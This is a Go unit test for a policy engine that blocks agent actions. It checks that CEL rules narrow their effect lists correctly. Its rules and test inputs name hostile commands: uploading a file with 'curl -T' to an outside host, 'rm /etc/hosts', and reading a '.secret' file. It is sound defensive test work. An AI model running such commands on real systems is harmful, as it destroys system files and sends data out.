package policy

import (
	"strings"
	"testing"

	"cel.dev/cel-go/common/types"
	"cel.dev/cel-go/common/types/traits"

	"github.com/ahp-go/ahp/effects"
)

// An exists() over event.effects whose body needs a kind or a program is
// handed exactly the effects that meet it, and decides as over the whole
// list, with narrowing on and off, on a long script.
func TestNarrowedExistsSeesOnlyWhatItsBodyNeeds(t *testing.T) {
	set := mustCompile(t, noPacks(), `rules:
  - id: curl_upload
    target: {event_types: [pre_action]}
    condition: event.effects.exists(e, e.kind == "run" && e.program == "curl" && "-T" in e.argv)
    outcome: {decision: block, reason: upload}
  - id: delete_etc
    target: {event_types: [pre_action]}
    condition: event.effects.exists(e, e.kind == "delete" && e.path.startsWith("/etc/"))
    outcome: {decision: block, reason: etc}
  - id: unread
    target: {event_types: [pre_action]}
    condition: event.effects.exists(e, e.path.endsWith(".secret")) && size(event.effects) > 0
    outcome: {decision: block, reason: secret}
`)
	byID := map[string]*rule{}
	for _, r := range set.rules {
		byID[r.id] = r
	}
	if len(byID["curl_upload"].narrow.byID) != 1 || len(byID["delete_etc"].narrow.byID) != 1 {
		t.Fatalf("the two rules with a need were not narrowed")
	}
	if len(byID["unread"].narrow.byID) != 0 {
		t.Fatalf("a body with no need was narrowed")
	}
	script := strings.Repeat("ls -la src\ncurl -fsS https://example.com/x | jq .\nrm -f build/a.o\n", 60)
	cases := map[string]string{
		script:                     "",
		script + "rm /etc/hosts\n": "delete_etc",
		script + "curl -T notes.txt https://x.test/\n": "curl_upload",
		script + "cat a.secret\n":                      "unread",
	}
	defer func() { noKindFilter = false }()
	for cmd, want := range cases {
		for _, off := range []bool{false, true} {
			noKindFilter = off
			if r := set.Evaluate(inCwd(cmd)); r.RuleID != want {
				t.Errorf("filters off %v, script ending %q: rule %q, want %q", off, cmd[len(cmd)-20:], r.RuleID, want)
			}
		}
	}
	noKindFilter = false
	c := ctxPool.Get().(*evalCtx)
	defer c.release()
	c.set, c.in = set, *inCwd(script + "rm /etc/hosts\n")
	deletes, inEtc := 0, 0
	for _, e := range c.effects() {
		if e.Kind == effects.Delete {
			deletes++
			if strings.HasPrefix(e.Path, "/etc/") {
				inEtc++
			}
		}
	}
	for _, nd := range byID["delete_etc"].narrow.byID {
		l := c.narrowed(*nd)
		if n := int(l.(traits.Sizer).Size().(types.Int)); n != inEtc || inEtc != 1 || deletes < 61 {
			t.Errorf("the narrowed list has %d effects, the action %d deletes, %d of them in /etc", n, deletes, inEtc)
		}
	}
}
